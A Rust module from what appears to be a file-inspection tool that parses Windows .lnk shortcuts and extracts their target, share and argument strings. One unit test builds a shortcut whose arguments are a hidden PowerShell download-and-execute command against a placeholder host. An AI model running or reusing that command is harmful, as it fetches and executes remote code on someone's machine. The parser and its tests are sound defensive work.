//! Shortcuts (`.lnk`): what they start, with which arguments.
//!
//! Source: <https://learn.microsoft.com/openspecs/windows_protocols/ms-shllink>

use crate::inside::open::Opener;
use crate::inside::{Block, Unpacked};

/// Bytes of the header, and where its flags are.
const HEADER: usize = 76;
const FLAGS: usize = 20;

const HAS_ID_LIST: u32 = 1;
const HAS_LINK_INFO: u32 = 1 << 1;
const IS_UNICODE: u32 = 1 << 7;

/// The strings at its end, by the flag that says that each is there.
const STRINGS: &[(u32, &str)] =
    &[(1 << 2, "description"), (1 << 3, "path"), (1 << 4, "folder"), (1 << 5, "arguments"), (1 << 6, "icon")];

/// Reads the shortcut that part `at` is.
pub(in crate::inside) fn read(opener: &mut Opener, at: usize, bytes: &[u8]) {
    let mut lines = String::new();
    for (name, text) in &strings(bytes) {
        lines.extend([name, ": ", text, "\n"]);
    }
    if lines.is_empty() {
        opener.remark(Some(at), "a shortcut without readable strings");
    }
    opener.block(at, Block { unpacked: Unpacked::Yes, ..Block::text(1, lines) });
}

fn number(bytes: &[u8], at: usize, size: usize) -> Option<usize> {
    let taken = bytes.get(at..at.checked_add(size)?)?;
    Some(taken.iter().rev().fold(0, |value, byte| value << 8 | usize::from(*byte)))
}

fn strings(bytes: &[u8]) -> Vec<(&'static str, String)> {
    let Some(flags) = number(bytes, FLAGS, 4).and_then(|flags| u32::try_from(flags).ok()) else { return Vec::new() };
    let mut found = Vec::new();
    let mut at = HEADER;
    if flags & HAS_ID_LIST != 0 {
        at += 2 + number(bytes, at, 2).unwrap_or(0);
    }
    if flags & HAS_LINK_INFO != 0 {
        let size = number(bytes, at, 4).unwrap_or(0);
        let info = bytes.get(at..at.saturating_add(size)).unwrap_or_default();
        if let Some(target) = number(info, 16, 4).filter(|at| *at > 0).and_then(|at| ended(info, at)) {
            found.push(("target", target));
        }
        let share = number(info, 20, 4).filter(|at| *at > 0);
        if let Some(name) = share.and_then(|share| ended(info, share + number(info, share + 8, 4)?)) {
            found.push(("share", name));
        }
        at = at.saturating_add(size);
    }
    let width = if flags & IS_UNICODE == 0 { 1 } else { 2 };
    for (_, name) in STRINGS.iter().filter(|(flag, _)| flags & flag != 0) {
        let Some(length) = number(bytes, at, 2) else { break };
        let Some(taken) = bytes.get(at + 2..at + 2 + length * width) else { break };
        let text = if width == 2 {
            let units: Vec<u16> =
                taken.chunks_exact(2).filter_map(|pair| Some(u16::from_le_bytes(pair.try_into().ok()?))).collect();
            String::from_utf16_lossy(&units)
        } else {
            String::from_utf8_lossy(taken).into_owned()
        };
        found.push((name, text.replace(['\r', '\n', '\0'], " ")));
        at += 2 + length * width;
    }
    found
}

/// The text up to its zero.
fn ended(bytes: &[u8], at: usize) -> Option<String> {
    let text = bytes.get(at..)?.split(|byte| *byte == 0).next()?;
    (!text.is_empty()).then(|| String::from_utf8_lossy(text).into_owned())
}

/// A shortcut with these arguments, for tests.
#[cfg(test)]
pub(in crate::inside) fn made(arguments: &str) -> Vec<u8> {
    let mut bytes = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    bytes.extend((1_u32 << 5 | IS_UNICODE).to_le_bytes());
    bytes.resize(HEADER, 0);
    let units: Vec<u16> = arguments.encode_utf16().collect();
    bytes.extend(u16::try_from(units.len()).unwrap().to_le_bytes());
    bytes.extend(units.into_iter().flat_map(u16::to_le_bytes));
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn arguments_are_read_without_the_number_before_them() {
        let link = made("-w hidden iwr http://a.example/x.ps1 | iex");
        assert_eq!(strings(&link), [("arguments", "-w hidden iwr http://a.example/x.ps1 | iex".to_owned())]);
    }

    #[test]
    fn a_shortcut_that_lies_about_lengths_gives_what_is_there() {
        let mut link = made("abc");
        link.truncate(HEADER + 4);
        assert!(strings(&link).is_empty());
        for length in 0..HEADER + 8 {
            let mut cut = vec![0xff; length];
            cut.splice(..4.min(length), *b"L\0\0\0");
            strings(&cut);
        }
    }
}
